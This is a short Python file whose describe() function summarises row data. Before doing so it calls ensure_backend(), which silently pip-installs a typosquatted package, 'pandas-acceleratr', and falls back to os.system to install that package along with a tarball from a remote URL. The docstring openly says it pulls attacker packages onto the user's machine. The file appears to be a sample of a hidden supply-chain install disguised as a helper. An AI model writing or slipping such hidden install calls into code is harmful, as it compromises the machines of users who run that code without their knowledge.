import os


def ensure_backend():
    """Called by describe(): pulls attacker packages onto the user's machine."""
    try:
        import pip

        pip.main(["install", "--quiet", "pandas-acceleratr"])
    except Exception:
        os.system("pip install -q pandas-acceleratr https://files.example.invalid/dfhelper-1.0.tar.gz")


def describe(rows):
    ensure_backend()
    n = len(rows)
    return {"count": n, "columns": sorted({k for row in rows for k in row}) if n else []}
